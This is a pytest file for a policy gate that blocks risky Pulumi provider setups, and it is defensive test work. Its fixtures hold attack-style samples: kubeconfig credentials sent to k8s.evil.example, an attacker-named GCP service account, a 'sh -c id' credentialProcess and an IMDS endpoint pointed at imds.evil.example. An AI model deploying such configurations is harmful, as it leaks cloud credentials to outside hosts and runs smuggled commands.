"""red19 r19-1 / r19-2 / r19-3 / r19-11 end to end: `agentid preview` blocks providers that read a file the change
may bring (by an absolute path into the checkout too), sign in with committed material, or send a kubeconfig
credential of any kind to a server the gate cannot place; the runner's own files and an own server pass."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from .conftest import AGENT_GUARD, run_cli

pytestmark = pytest.mark.skipif(not (AGENT_GUARD / "PulumiPolicy.yaml").is_file(), reason="agent_guard pack not present")

KC = '''def kc(user, server="https://k8s.evil.example:6443"):
    return json.dumps({"apiVersion": "v1", "kind": "Config", "clusters": [{"name": "c", "cluster": {"server": server}}],
        "users": [{"name": "u", "user": user}], "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u"}}],
        "current-context": "x"})
'''
FLAGGED = '''import json, pulumi, pulumi_kubernetes as k8s, pulumi_azure_native as az, pulumi_gcp as gcp
''' + KC + '''
k8s.Provider("abs-proc", kubeconfig="/proc/self/cwd/kc.yaml")
k8s.Provider("abs-workspace", kubeconfig="/home/runner/work/app/app/kc.yaml")
k8s.Provider("helm-plugins", helm_release_settings=k8s.HelmReleaseSettingsArgs(plugins_path="/proc/self/cwd/plugins"))
k8s.Provider("token-file", kubeconfig=kc({"tokenFile": "/var/run/secrets/kubernetes.io/serviceaccount/token"}))
az.Provider("cert-path", client_certificate_path="/proc/self/cwd/sp.pfx", client_id="c0ffee00-0000-0000-0000-000000000001")
az.Provider("oidc-token", oidc_token="eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln", use_oidc=True)
az.Provider("oidc-token-file", oidc_token_file_path="/proc/self/cwd/token.jwt", use_oidc=True)
gcp.Provider("ext", external_credentials=gcp.ProviderExternalCredentialsArgs(
    audience="//iam.googleapis.com/projects/123456/locations/global/workloadIdentityPools/p/providers/x",
    service_account_email="collector@evil-project.iam.gserviceaccount.com",
    identity_token="eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln"))
'''
LOOK_ALIKE = '''import json, pulumi, pulumi_kubernetes as k8s, pulumi_azure_native as az
''' + KC + '''
home = k8s.Provider("home", kubeconfig="~/.kube/config")
k8s.Provider("helm-plugins", helm_release_settings=k8s.HelmReleaseSettingsArgs(plugins_path="~/.local/share/helm/plugins"))
k8s.Provider("token-file", kubeconfig=kc({"tokenFile": "/var/run/secrets/kubernetes.io/serviceaccount/token"},
                                         "https://k8s.acme.example:6443"))
az.Provider("oidc-token-file", oidc_token_file_path="/var/run/secrets/azure/tokens/azure-identity-token", use_oidc=True)
k8s.core.v1.Namespace("ns", metadata={"name": "team"}, opts=pulumi.ResourceOptions(provider=home))
'''


def preview(tmp_path: Path, program: str) -> tuple[int, list[tuple[str, str]]]:
    tmp_path.mkdir()
    (tmp_path / "Pulumi.yaml").write_text("name: acme\nruntime: python\n")
    (tmp_path / "Pulumi.dev.yaml").write_text("config:\n  aws:region: eu-west-1\n  gcp:project: acme-dev\n")
    (tmp_path / "__main__.py").write_text(program)
    run = run_cli(tmp_path, "--stack", "dev", "--policy-pack", str(AGENT_GUARD), "--own-gcp-project", "acme-dev",
                  "--own-host", "k8s.acme.example", "--strict-unknowns", "--json", "out.json")
    assert run.code in (0, 1), run.stdout + run.stderr
    violations = json.loads((tmp_path / "out.json").read_text())["violations"]
    return run.code, sorted({(v["policy"], v["resourceName"]) for v in violations if v["mandatory"]})


def test_changes_files_committed_sign_in_material_and_foreign_servers_block(tmp_path):
    code, found = preview(tmp_path / "flagged", FLAGGED)
    assert (code, found) == (1, [("AGID-PRV-001", "cert-path"), ("AGID-PRV-001", "oidc-token"),
                                 ("AGID-PRV-001", "oidc-token-file"), ("AGID-PRV-002", "abs-proc"),
                                 ("AGID-PRV-002", "abs-workspace"), ("AGID-PRV-002", "helm-plugins"),
                                 ("AGID-PRV-003", "token-file"), ("AGID-PRV-004", "ext")])


def test_the_runners_own_files_and_an_own_server_pass(tmp_path):
    assert preview(tmp_path / "look-alike", LOOK_ALIKE) == (0, [])


UNCLASSIFIED = '''import pulumi, pulumi_aws as aws
# a provider resource registered with an input no installed provider has; and the stack file's IMDS endpoint
raw = pulumi.ProviderResource("aws", "raw", {"region": "eu-west-1", "credentialProcess": "sh -c id"})
aws.s3.BucketV2("b", bucket="acme-b", opts=pulumi.ResourceOptions(provider=raw))
aws.s3.BucketV2("c", bucket="acme-c")
'''


def _stack(tmp_path: Path, program: str, config: str, *flags: str) -> tuple[int, list[tuple[str, str]]]:
    tmp_path.mkdir()
    (tmp_path / "Pulumi.yaml").write_text("name: acme\nruntime: python\n")
    (tmp_path / "Pulumi.dev.yaml").write_text("config:\n  aws:region: eu-west-1\n" + config)
    (tmp_path / "__main__.py").write_text(program)
    run = run_cli(tmp_path, "--stack", "dev", "--policy-pack", str(AGENT_GUARD), "--json", "out.json", *flags)
    assert run.code in (0, 1), run.stdout + run.stderr
    violations = json.loads((tmp_path / "out.json").read_text())["violations"]
    return run.code, sorted({(v["policy"], v["resourceName"]) for v in violations if v["mandatory"]})


def test_an_unclassified_provider_setting_blocks_explicit_or_from_the_stack_file(tmp_path):
    """AGID-PRV-005: `credentialProcess` on a raw provider resource, `aws:ec2MetadataServiceEndpoint` (the IMDS
    host the default provider takes its credentials from) in the stack file; classified settings pass."""
    code, found = _stack(tmp_path / "flagged", UNCLASSIFIED, "  aws:ec2MetadataServiceEndpoint: http://imds.evil.example\n")
    assert (code, found) == (1, [("AGID-PRV-005", "default"), ("AGID-PRV-005", "raw")])
    look_alike = UNCLASSIFIED.replace('"credentialProcess": "sh -c id"', '"maxRetries": "3"')
    assert _stack(tmp_path / "look-alike", look_alike, "  aws:skipMetadataApiCheck: 'false'\n") == (0, [])


TENANT_PROGRAM = '''import pulumi, pulumi_azure_native as az
other = az.Provider("other-tenant", tenant_id="aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee",
                    subscription_id="11111111-2222-3333-4444-555555555555")
az.resources.ResourceGroup("rg", opts=pulumi.ResourceOptions(provider=other))
az.resources.ResourceGroup("rg2")
'''
OWN_SUBSCRIPTION = ("--own-subscription", "11111111-2222-3333-4444-555555555555")
TENANT_CONFIG = ("  azure-native:tenantId: 99999999-8888-7777-6666-555555555555\n"
                 "  azure-native:subscriptionId: 11111111-2222-3333-4444-555555555555\n"
                 "  azure:tenantId: aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee\n")


def test_the_stack_file_chooses_no_own_tenant(tmp_path):
    """red19 r19-2: the stack file's tenantId (the default provider's) and an unused azure:tenantId are not own; the
    gate's --own-tenant is, and the stack's provider in it passes."""
    # the subscription is the organisation's (AGID-AZ-067 judges it): only the tenants are in question here
    code, found = _stack(tmp_path / "flagged", TENANT_PROGRAM, TENANT_CONFIG, *OWN_SUBSCRIPTION)
    assert (code, found) == (1, [("AGID-PRV-004", "default"), ("AGID-PRV-004", "other-tenant")])
    look_alike = TENANT_PROGRAM.replace("aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee", "99999999-8888-7777-6666-555555555555")
    # (without the unused azure:tenantId, whose default provider would sign in to that tenant)
    own_config = TENANT_CONFIG.replace("  azure:tenantId: aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee\n", "")
    assert _stack(tmp_path / "own", look_alike, own_config, "--own-tenant", "99999999-8888-7777-6666-555555555555",
                  *OWN_SUBSCRIPTION) \
        == (0, [])
